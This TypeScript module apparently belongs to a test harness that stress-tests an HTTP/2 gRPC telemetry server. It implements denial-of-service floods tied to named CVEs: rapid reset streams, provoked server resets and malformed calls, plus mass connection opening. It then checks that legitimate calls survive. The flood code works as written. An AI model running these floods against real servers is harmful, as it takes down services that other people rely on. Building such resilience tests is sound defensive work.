/**
 * Streams that are opened and abandoned, reset, or made to be reset.
 *
 * @module
 */
import { setTimeout as delay } from "node:timers/promises";

import { streamBatches, streamPackets } from "../../src/protocol/telemetry_proto.ts";
import { headerBlock, requestHeaders, uint32 } from "../http2/raw_connection.ts";
import { frame, joined, windowUpdate } from "../support/http2_frames.ts";
import {
  CANCEL,
  DATA,
  END_HEADERS,
  END_STREAM,
  HEADERS,
  MAX_WINDOW_BYTES,
  PRIORITY,
  RST_STREAM,
} from "../support/http2_numbers.ts";
import {
  type Attack,
  type Attacker,
  BATCHES_PATH,
  MAY_BE_COUNTED,
  NEVER_COUNTED,
  PACKETS_PATH,
} from "./attacker.ts";
import { messageFrame, openCalls } from "./frames.ts";

/** Calls of one write. */
const CALLS_PER_WRITE = 50;

const packetOf = (deviceId: string) =>
  streamPackets.requestSerialize({
    device_id: deviceId,
    timestamp: 1_700_000_000,
    payload: new Uint8Array(16),
  });

/** Opens calls at full speed; `framesOf` gives what belongs to one. */
function callFlood(name: string, framesOf: (streamId: number, session: string) => Uint8Array[]): Attack {
  return {
    name,
    mustEnd: true,
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        const prefix = crypto.randomUUID();
        for (let id = 1; connection.open; id += 2 * CALLS_PER_WRITE) {
          const calls = Array.from({ length: CALLS_PER_WRITE }, (_, i) => id + 2 * i);
          await connection.send(...calls.flatMap((call) => framesOf(call, `${prefix}-${call}`)));
        }
      }),
  };
}

const sessionHeaders = (session: string) => ({ "telemetry-session": session });

function endedRequest(streamId: number, more: Record<string, string>): Uint8Array {
  return frame(HEADERS, END_HEADERS | END_STREAM, streamId, headerBlock(PACKETS_PATH, more));
}

/** CVE-2025-8671: each makes the server reset the stream, which is not a reset of the client's. */
const provokedResets = ([
  ["content-length: 1 and no DATA", (id, session) => [
    endedRequest(id, { "content-length": "1", ...sessionHeaders(session) }),
  ]],
  ["more DATA than content-length", (id, session) => [
    requestHeaders(id, PACKETS_PATH, { "content-length": "1", ...sessionHeaders(session) }),
    frame(DATA, 0, id, [0, 0]),
  ]],
  ["WINDOW_UPDATE of 0", (id, session) => [
    requestHeaders(id, PACKETS_PATH, sessionHeaders(session)),
    windowUpdate(id, 0),
  ]],
  ["a window above 2^31 - 1", (id, session) => [
    requestHeaders(id, PACKETS_PATH, sessionHeaders(session)),
    windowUpdate(id, MAX_WINDOW_BYTES),
  ]],
  ["PRIORITY on itself", (id, session) => [
    requestHeaders(id, PACKETS_PATH, sessionHeaders(session)),
    frame(PRIORITY, 0, id, [...uint32(id), 1]),
  ]],
  ["DATA after END_STREAM", (id, session) => [
    endedRequest(id, sessionHeaders(session)),
    messageFrame(id, packetOf(`${NEVER_COUNTED}device`), { flags: END_STREAM }),
  ]],
  ["HEADERS after END_STREAM", (id, session) => [
    endedRequest(id, sessionHeaders(session)),
    endedRequest(id, {}),
  ]],
] satisfies [string, (id: number, session: string) => Uint8Array[]][]).map(([what, framesOf]) =>
  callFlood(`Provoked resets: ${what} (CVE-2025-8671)`, framesOf)
);

/** See the module. */
export const streamAttacks: readonly Attack[] = [
  callFlood("Rapid reset (CVE-2023-44487)", (id) => [
    requestHeaders(id, PACKETS_PATH),
    frame(RST_STREAM, 0, id, uint32(CANCEL)),
  ]),
  callFlood("Rapid reset, each with a session", (id, session) => [
    requestHeaders(id, PACKETS_PATH, sessionHeaders(session)),
    frame(RST_STREAM, 0, id, uint32(CANCEL)),
  ]),
  callFlood("Rapid reset of calls that grpc-js serves", (id) => [
    requestHeaders(id, PACKETS_PATH, { "grpc-encoding": "gzip" }),
    frame(RST_STREAM, 0, id, uint32(CANCEL)),
  ]),
  callFlood("Malformed calls, each to be reset (CVE-2019-9514)", (id) => [
    requestHeaders(id, PACKETS_PATH, { "Upper-Case": "x", connection: "close" }),
  ]),
  ...provokedResets,
  {
    name: "400 connections with 1,000 calls each, opened and dropped",
    async run(attacker) {
      while (!attacker.over) {
        const connections = [];
        for (let i = 0; i < 400 && !attacker.over; i++) {
          const connection = await attacker.connect();
          if (connection === undefined) continue;
          connections.push(connection);
          await openCalls(connection, PACKETS_PATH, 1000);
        }
        for (const connection of connections) connection[Symbol.dispose]();
      }
    },
  },
  {
    name: "400 connections with 1,000 calls each, held open",
    async run(attacker) {
      for (let i = 0; i < 400 && !attacker.over; i++) {
        const connection = await attacker.connect();
        if (connection !== undefined) await openCalls(connection, BATCHES_PATH, 1000);
      }
    },
  },
  {
    name: "A connection shared by many: 1,800 cancels beside 20 live calls",
    run: sharedConnection,
  },
];

/** The calls of others that share the connection, how often one sends, and how many are cancelled per round. */
const LIVE_CALLS = 20, ROUND_MS = 100, CANCELS_PER_ROUND = 26;

/** Share of the time that is left at the end, so that the outcome of the live calls is seen. */
const SETTLE_SHARE = 0.3;

/** A proxy's connection: one of its clients cancels again and again, the calls of the others must go on. */
async function sharedConnection(attacker: Attacker): Promise<void> {
  const connection = await attacker.connect();
  if (connection === undefined) return;
  const live = Array.from({ length: LIVE_CALLS }, (_, i) => 2 * i + 1);
  const batch = streamBatches.requestSerialize({
    packets: [{ device_id: `${MAY_BE_COUNTED}live`, timestamp: 0, payload: new Uint8Array(4) }],
  });
  attacker.mustHoldAtEnd(() => {
    const well = live.filter((id) => connection.outcomes.get(id) === "0").length;
    return well === LIVE_CALLS ? undefined : `only ${well} of ${LIVE_CALLS} live calls ended well`;
  });
  await connection.send(...live.map((id) => requestHeaders(id, BATCHES_PATH)));
  const rounds = Math.floor(attacker.durationMs * (1 - SETTLE_SHARE) / ROUND_MS);
  for (let round = 0, id = 2 * LIVE_CALLS + 1; round < rounds && connection.open; round++) {
    const cancelled = Array.from({ length: CANCELS_PER_ROUND }, () => {
      const frames = [requestHeaders(id, PACKETS_PATH), frame(RST_STREAM, 0, id, uint32(CANCEL))];
      id += 2;
      return joined(...frames);
    });
    attacker.validPackets += LIVE_CALLS;
    for (const call of live) connection.use(call, batch.length + 5);
    await connection.send(...live.map((call) => messageFrame(call, batch)), ...cancelled);
    await delay(ROUND_MS);
  }
  await connection.send(...live.map((id) => frame(DATA, END_STREAM, id)));
}
